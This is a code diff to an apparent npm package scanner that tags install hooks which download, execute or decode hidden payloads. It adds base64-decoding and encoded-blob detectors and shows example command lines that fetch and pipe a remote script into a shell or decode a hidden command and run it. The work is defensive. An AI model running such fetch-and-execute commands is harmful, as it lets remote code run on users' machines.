@@ -42,12 +42,23 @@ ABBREVIATED = "application/vnd.npm.install-v1+json"
 _FETCH_CMD = re.compile(r"\b(curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|certutil)\b|https?://", re.IGNORECASE)
 _EXEC_CMD = re.compile(r"\|\s*(ba|z|da)?sh\b|\b(ba)?sh\s+-c\b|\bnode\s+-e\b|\bpython3?\s+-c\b|\beval\b|\biex\b|"
                        r"\bpowershell\b|\bchmod\s+\+x\b", re.IGNORECASE)
+#: Text decoded at install: a base64 or hex decoder called in the command line.
+_DECODE_CMD = re.compile(r"\bbase64\s+(-d|-D|--decode)\b|\batob\s*\(|['\"]base64['\"]|\bxxd\s+-r\b")
+#: A run of base64 characters this long, in both cases and with digits, is an encoded blob, not a word or a path.
+_BLOB = re.compile(r"[A-Za-z0-9+/]{40,}")
+
+
+def _has_blob(text: str) -> bool:
+    return any(not r.isalpha() and not r.islower() and not r.isupper() and r.count("/") * 8 < len(r)
+               for r in _BLOB.findall(text))
 
 
 def script_behaviour(scripts: dict[str, Any]) -> tuple[str, ...]:
-    """What the install hooks' command lines do (`runs-commands`, `downloads`, `executes-code`); () without hooks.
+    """What the install hooks' command lines do (`runs-commands`, `downloads`, `executes-code`,
+    `decodes-payload`); () without hooks.
 
-    `curl -s http://x/i.sh | sh` downloads and runs; `node install.js` runs a file of the package (not read)."""
+    `curl -s http://x/i.sh | sh` downloads and runs; `echo <base64> | base64 -d | bash` decodes a hidden
+    command and runs it; `node install.js` runs a file of the package (not read)."""
     text = " ; ".join(v for h in _HOOKS if isinstance(v := scripts.get(h), str))
     if not text:
         return ()
@@ -56,6 +67,8 @@ def script_behaviour(scripts: dict[str, Any]) -> tuple[str, ...]:
         tags.append("downloads")
     if _EXEC_CMD.search(text):
         tags.append("executes-code")
+    if _DECODE_CMD.search(text) or _has_blob(text):
+        tags.append("decodes-payload")
     return tuple(tags)
 
 
